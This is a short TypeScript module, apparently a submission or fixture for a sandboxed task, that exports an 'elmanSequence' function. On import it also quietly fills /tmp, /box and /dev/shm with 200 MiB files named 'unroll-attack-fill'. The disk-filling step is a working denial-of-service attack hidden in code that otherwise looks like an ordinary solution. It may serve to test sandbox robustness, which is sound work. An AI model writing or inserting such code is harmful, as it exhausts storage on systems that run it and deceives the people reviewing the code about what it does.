import { builtin } from '../../parts/builtin.ts';
import { honest, type Input, type Output } from '../../parts/elman.ts';

const { openSync, writeSync } = builtin('fs');
const part = new Uint8Array(2 ** 20).fill(1);
for (const folder of ['/tmp', '/box', '/dev/shm'])
  try {
    const file = openSync(`${folder}/unroll-attack-fill`, 'w');
    for (let index = 0; index < 200; index++) writeSync(file, part); // MiB
  } catch {
    console.log(`${folder} is full`);
  }

export const elmanSequence = (input: Input): Output => honest(input);
